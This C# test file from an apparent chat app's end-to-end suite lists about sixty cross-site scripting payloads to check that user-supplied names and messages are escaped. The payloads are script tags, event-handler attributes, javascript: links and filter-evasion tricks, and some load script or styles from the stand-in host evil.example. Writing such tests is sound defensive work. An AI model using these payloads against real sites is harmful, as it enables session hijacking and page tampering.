namespace ChatBox.EndToEnd.Tests;

/// <summary>Sixty texts that would run, load or break something on a page that took them for markup, each in its own way.</summary>
static class Injections
{
    /// <summary>Characters of a name.</summary>
    const int LongestName = 32;

    public static readonly string[] All =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "\"><img src=//evil.example/x onerror=alert(1)>",
        "'-alert(1)-'",
        "</textarea></p></article><script>alert(1)</script>",
        "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<style>@import '//evil.example/x.css';</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=//evil.example/>",
        "<form action=//evil.example><input name=x autofocus onfocus=alert(1)>",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "{@html '<img src=x onerror=alert(1)>'}",
        "&lt;img src=x onerror=alert(1)&gt;",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<body onpageshow=alert(1)>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script/src=//evil.example/x.js></script>",
        "<script>Reflect.apply(alert, null, [1])</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img/src/onerror=alert(1)>",
        "<img src=x:alert(alt) onerror=eval(src) alt=1>",
        "<img srcset=x onerror=alert(1)>",
        "<image src=x onerror=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>click</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)/>#x\"/></svg>",
        "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
        "<audio src onloadstart=alert(1)>",
        "<video poster=//evil.example/x.png autoplay onplay=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<input onfocus=alert(1) autofocus>",
        "<textarea autofocus onfocus=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
        "<button formaction=javascript:alert(1)>click",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>",
        "<applet code=//evil.example/x>",
        "<frameset onload=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<p style=\"background:url(//evil.example/x)\">styled</p>",
        "<div style=animation-name:x onanimationstart=alert(1)>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">click</a>",
        "<a href=\" &#14; javascript:alert(1)\">click</a>",
        "[click](javascript:alert(1)) ![x](//evil.example/x.png)",
        "\"autofocus onfocus=alert(1) x=\"",
    ];

    /// <summary>As much of each as is a name. (A name that ends in the middle of a tag is one more way to break a page.)</summary>
    public static string[] AsNames =>
        [.. All.Select(text => text.Length <= LongestName ? text : text[..LongestName].TrimEnd()).Distinct(StringComparer.OrdinalIgnoreCase)];
}
